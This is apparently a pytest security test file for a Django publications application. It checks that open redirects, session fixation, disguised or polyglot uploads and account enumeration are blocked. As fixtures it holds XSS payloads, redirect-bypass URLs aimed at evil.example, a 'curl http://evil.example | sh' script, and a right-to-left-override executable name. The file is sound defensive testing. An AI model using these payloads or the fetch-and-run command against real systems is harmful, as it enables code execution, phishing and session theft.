"""Targeted attacks: open redirects, session fixation, disguised uploads and user
enumeration through sign-in and password reset."""

from __future__ import annotations

import re
import statistics
import time
from collections.abc import Callable
from typing import Any
from urllib.parse import urlsplit

import pytest
from django.conf import settings
from django.contrib.sessions.backends.db import SessionStore
from django.core import mail
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse

from diplomatie.directory.models import Agent
from diplomatie.publications.actions import do_create_draft
from diplomatie.publications.models import Attachment, Kind, Publication
from tests.conftest import Ministry, signed_in
from tests.factories import PASSWORD, draft_data, run_queued_tasks
from tests.security.inert import assert_inert
from tests.security.smtp_server import smtp_server

# --- The checker itself ------------------------------------------------------------------


def test_the_xss_checker_sees_a_live_payload() -> None:
    for live in (
        "<script>alert('xss-9')</script>",
        '<img src=x onerror="alert(1)">',
        '<a href=" JaVaScRiPt:alert(1)">xss-9</a>',
    ):
        with pytest.raises(AssertionError):
            assert_inert(f"<p>{live}</p>", "xss-9")
    assert_inert("<p>&lt;script&gt;alert('xss-9')&lt;/script&gt;</p>", "xss-9")


# --- Open redirects ----------------------------------------------------------------------

EVIL = [
    "//evil.example",
    "///evil.example",
    "https://evil.example",
    "http://evil.example/compte/",
    "https:evil.example",
    "/\\evil.example",
    "\\\\evil.example",
    "\\/evil.example",
    " //evil.example",
    "\t//evil.example",
    "/%2F/evil.example",
    "%2F%2Fevil.example",
    "/%5Cevil.example",
    "https://testserver.evil.example/",
    "https://evil.example\\@testserver/",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
]


def assert_stays_home(response: Any) -> None:
    """A redirect that a browser follows to this site only."""
    assert response.status_code in (301, 302, 303), response.status_code
    location = response["Location"]
    # Browsers drop tabs and newlines, strip spaces and read a backslash as a slash.
    seen = "".join(c for c in location if c not in "\t\r\n").strip().replace("\\", "/")
    parts = urlsplit(seen)
    assert parts.scheme in ("", "http", "https"), location
    assert parts.netloc in ("", "testserver"), location
    assert not seen.startswith("//"), location
    assert "evil.example" not in parts.netloc, location


@pytest.mark.parametrize("target", EVIL)
def test_sign_in_does_not_redirect_away(client: Client, desk_officer: Agent, target: str) -> None:
    response = client.post(
        reverse("accounts:login"),
        {"username": desk_officer.email, "password": PASSWORD, "next": target},
    )
    assert_stays_home(response)
    # Once signed in, the sign-in page sends on to `next` too: same rule.
    assert_stays_home(client.get(reverse("accounts:login"), {"next": target}))


@pytest.mark.parametrize("target", EVIL)
def test_sign_out_does_not_redirect_away(client: Client, desk_officer: Agent, target: str) -> None:
    signed_in(client, desk_officer)
    response = client.post(reverse("accounts:logout"), {"next": target})
    assert_stays_home(response)
    assert "_auth_user_id" not in client.session


@pytest.mark.parametrize("target", EVIL)
def test_language_switch_does_not_redirect_away(client: Client, db: None, target: str) -> None:
    response = client.post(reverse("accounts:set_language"), {"language": "en", "next": target})
    assert_stays_home(response)
    referred = client.post(
        reverse("accounts:set_language"), {"language": "fr"}, headers={"referer": target}
    )
    assert_stays_home(referred)


@pytest.mark.parametrize("target", EVIL)
def test_follow_and_rating_do_not_redirect_away(
    client: Client, ministry: Ministry, desk_officer: Agent, service_head: Agent, target: str
) -> None:
    signed_in(client, desk_officer)
    response = client.post(
        reverse("audience:follow"),
        {"action": "follow", "agent": service_head.pk, "next": target},
    )
    assert_stays_home(response)


# --- Session fixation --------------------------------------------------------------------


def test_sign_in_gives_a_new_session_id(client: Client, desk_officer: Agent) -> None:
    """An id planted before sign-in (by a link, a shared computer…) is worthless after."""
    planted = SessionStore()
    planted["planted"] = True
    planted.save()
    assert planted.session_key is not None
    client.cookies[settings.SESSION_COOKIE_NAME] = planted.session_key
    response = client.post(
        reverse("accounts:login"), {"username": desk_officer.email, "password": PASSWORD}
    )
    assert response.status_code == 302
    new_key = client.cookies[settings.SESSION_COOKIE_NAME].value
    assert new_key != planted.session_key
    assert not SessionStore().exists(planted.session_key)
    # The planted id does not open the account.
    attacker = Client(HTTP_ACCEPT_LANGUAGE="en")
    attacker.cookies[settings.SESSION_COOKIE_NAME] = planted.session_key
    home = attacker.get(reverse("home"))
    assert home.status_code == 302
    assert home["Location"].startswith(reverse("accounts:login"))


def test_an_invented_session_id_is_not_adopted(client: Client, desk_officer: Agent) -> None:
    invented = "a" * 32
    client.cookies[settings.SESSION_COOKIE_NAME] = invented
    client.post(reverse("accounts:login"), {"username": desk_officer.email, "password": PASSWORD})
    assert client.cookies[settings.SESSION_COOKIE_NAME].value != invented
    assert not SessionStore().exists(invented)


def test_sign_out_ends_the_session(client: Client, desk_officer: Agent) -> None:
    signed_in(client, desk_officer)
    key = client.session.session_key
    assert key
    client.post(reverse("accounts:logout"))
    assert not SessionStore().exists(key)


# --- Disguised uploads -------------------------------------------------------------------

WINDOWS_EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 48
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56
HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><circle r="4"/></svg>'
SCRIPT = b"#!/bin/sh\ncurl http://evil.example | sh\n"
ZIP = b"PK\x03\x04\x14\x00\x00\x00\x00\x00" + b"\x00" * 40
DISGUISED = [
    ("windows executable as PDF", "rapport.pdf", WINDOWS_EXE),
    ("ELF binary as PNG", "photo.png", ELF),
    ("HTML page as PDF", "note.pdf", HTML),
    ("HTML page as PNG", "carte.png", b"\xef\xbb\xbf  \n" + HTML),
    ("SVG with a script as PNG", "logo.png", SVG),
    ("shell script as text", "lisez-moi.txt", SCRIPT),
    ("bare ZIP archive as Word", "contrat.docx", ZIP),
]


def attach(client: Client, draft: Publication, name: str, content: bytes) -> Any:
    upload = SimpleUploadedFile(name, content, content_type="application/pdf")
    return client.post(
        reverse("publications:add_attachment", args=[draft.pk]), {"attachment": upload}
    )


@pytest.fixture
def draft(ministry: Ministry, desk_officer: Agent) -> Publication:
    publication: Publication = do_create_draft(
        desk_officer, draft_data(kind=Kind.NOTE, subject="Pièces jointes", issuer=ministry.levant)
    )
    return publication


@pytest.mark.parametrize(("label", "name", "content"), DISGUISED, ids=[d[0] for d in DISGUISED])
def test_a_disguised_file_is_refused(
    client: Client, desk_officer: Agent, draft: Publication, label: str, name: str, content: bytes
) -> None:
    response = attach(signed_in(client, desk_officer), draft, name, content)
    assert response.status_code == 302
    assert not Attachment.objects.filter(publication=draft).exists(), label
    page = client.get(response["Location"]).content.decode()
    assert "cannot be attached" in page


POLYGLOTS = [
    # Valid headers of an allowed type with HTML behind: kept under the type proven by the
    # content, and served so that no browser renders them as a page.
    ("GIF/HTML polyglot named .html", "page.html", b"GIF89a\x01\x00\x01\x00\x00\xff\x00," + HTML),
    ("GIF/HTML polyglot named .png", "image.png", b"GIF89a/*\x01\x00\x01\x00*/=1;" + HTML),
    ("PDF/HTML polyglot", "doc.pdf", b"%PDF-1.4\n" + HTML + b"\n%%EOF\n"),
]


@pytest.mark.parametrize(("label", "name", "content"), POLYGLOTS, ids=[p[0] for p in POLYGLOTS])
def test_a_polyglot_is_stored_as_what_it_proves_and_served_inert(
    client: Client, desk_officer: Agent, draft: Publication, label: str, name: str, content: bytes
) -> None:
    attach(signed_in(client, desk_officer), draft, name, content)
    attachment = Attachment.objects.filter(publication=draft).first()
    if attachment is None:
        return  # refused outright: fine too
    assert attachment.content_type in ("image/gif", "application/pdf"), label
    assert not attachment.name.lower().endswith((".html", ".htm", ".svg", ".png")), attachment.name
    response = client.get(reverse("publications:attachment", args=[draft.pk, attachment.pk]))
    assert response.status_code == 200
    assert response["Content-Type"] == attachment.content_type
    assert response["Content-Disposition"].startswith("attachment;")
    assert response["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in response["Content-Security-Policy"]


def test_an_executable_with_a_right_to_left_override_is_refused(
    client: Client, desk_officer: Agent, draft: Publication
) -> None:
    response = attach(signed_in(client, desk_officer), draft, "facture\u202efdp.exe", WINDOWS_EXE)
    assert response.status_code == 302
    assert not Attachment.objects.filter(publication=draft).exists()


# --- User enumeration --------------------------------------------------------------------


def _timed(call: Callable[[], Any], tries: int = 5) -> tuple[float, list[Any]]:
    durations, answers = [], []
    for _ in range(tries):
        started = time.perf_counter()
        answers.append(call())
        durations.append(time.perf_counter() - started)
    return statistics.median(durations), answers


def _page_text(response: Any) -> str:
    """The page without what differs on every request (the CSRF token, the nonce)."""
    body: str = response.content.decode()
    body = re.sub(r'name="csrfmiddlewaretoken" value="[^"]+"', "", body)
    body = re.sub(r'"X-CSRFToken": "[^"]+"', "", body)
    return re.sub(r'nonce="[^"]+"', "", body)


def test_sign_in_answers_the_same_whether_the_account_exists_or_not(
    db: None, desk_officer: Agent, settings: Any
) -> None:
    """Same page, same status, and about the same time: Django's ModelBackend runs the
    password hasher for an unknown address too, and django-axes (in front of it) counts
    failures per address and client whether the account exists or not."""
    settings.AXES_FAILURE_LIMIT = 1000
    deactivated = Agent.objects.create_user(
        "gone@d.example", PASSWORD, display_name="Partie", is_active=False
    )

    def attempt(email: str) -> Callable[[], Any]:
        def call() -> Any:
            client = Client(HTTP_ACCEPT_LANGUAGE="en")
            return client.post(
                reverse("accounts:login"), {"username": email, "password": "wrong password"}
            )

        return call

    attempt(desk_officer.email)()  # warm up (templates, first hash)
    existing, known = _timed(attempt(desk_officer.email))
    missing, unknown = _timed(attempt("nobody@d.example"))
    gone, inactive = _timed(attempt(deactivated.email))
    for answers in (known, unknown, inactive):
        assert {a.status_code for a in answers} == {200}
    pages = {
        _page_text(r).replace(email, "EMAIL")
        for r, email in (
            (known[0], desk_officer.email),
            (unknown[0], "nobody@d.example"),
            (inactive[0], deactivated.email),
        )
    }
    assert len(pages) == 1, "the sign-in page differs with the account"
    # Generous bounds: a leak is the cost of a whole hash (an order of magnitude).
    for other in (missing, gone):
        assert other > existing / 3, (existing, other)
        assert other < existing * 3, (existing, other)


def test_a_locked_address_answers_the_same_whether_the_account_exists_or_not(
    db: None, desk_officer: Agent, settings: Any
) -> None:
    settings.AXES_FAILURE_LIMIT = 2
    statuses = {}
    for email in (desk_officer.email, "nobody@d.example"):
        client = Client(HTTP_ACCEPT_LANGUAGE="en")
        answers = [
            client.post(reverse("accounts:login"), {"username": email, "password": "wrong"})
            for _ in range(3)
        ]
        statuses[email] = [a.status_code for a in answers]
    assert statuses[desk_officer.email] == statuses["nobody@d.example"]
    assert statuses["nobody@d.example"][-1] == 429


def test_password_reset_answers_the_same_whether_the_account_exists_or_not(
    db: None, desk_officer: Agent
) -> None:
    def reset(email: str) -> Callable[[], Any]:
        def call() -> Any:
            return Client(HTTP_ACCEPT_LANGUAGE="en").post(
                reverse("accounts:password_reset"), {"email": email}
            )

        return call

    reset(desk_officer.email)()  # warm up
    run_queued_tasks()
    mail.outbox.clear()
    existing, known = _timed(reset(desk_officer.email))
    missing, unknown = _timed(reset("nobody@d.example"))
    run_queued_tasks()
    assert len(mail.outbox) == 5  # only the real account was written to
    assert {(a.status_code, a["Location"]) for a in known + unknown} == {
        (302, reverse("accounts:password_reset_done"))
    }
    done = Client(HTTP_ACCEPT_LANGUAGE="en").get(reverse("accounts:password_reset_done"))
    assert done.status_code == 200
    # Sending is to the test outbox here; the bound allows for rendering the message.
    assert abs(existing - missing) < 0.25, (existing, missing)


def test_password_reset_takes_the_same_time_with_a_slow_mail_relay(
    db: None, desk_officer: Agent, settings: Any
) -> None:
    """With a real relay that takes its time, the answer must not wait for it, or the
    time would tell which addresses have an account."""

    delay = 0.4
    with smtp_server(delay=delay) as (port, mailbox):
        settings.EMAIL_BACKEND = "django.core.mail.backends.smtp.EmailBackend"
        settings.EMAIL_HOST, settings.EMAIL_PORT = "127.0.0.1", port
        settings.EMAIL_USE_TLS = settings.EMAIL_USE_SSL = False
        settings.EMAIL_HOST_USER = settings.EMAIL_HOST_PASSWORD = ""

        def reset(email: str) -> Callable[[], Any]:
            return lambda: Client(HTTP_ACCEPT_LANGUAGE="en").post(
                reverse("accounts:password_reset"), {"email": email}
            )

        existing, _ = _timed(reset(desk_officer.email), tries=3)
        missing, _ = _timed(reset("nobody@d.example"), tries=3)
        assert existing < missing + delay / 2, (existing, missing)
        # The messages still go out, by the worker.
        run_queued_tasks()
        assert len(mailbox.messages) == 3
        assert b"/compte/oubli/" in mailbox.messages[0]
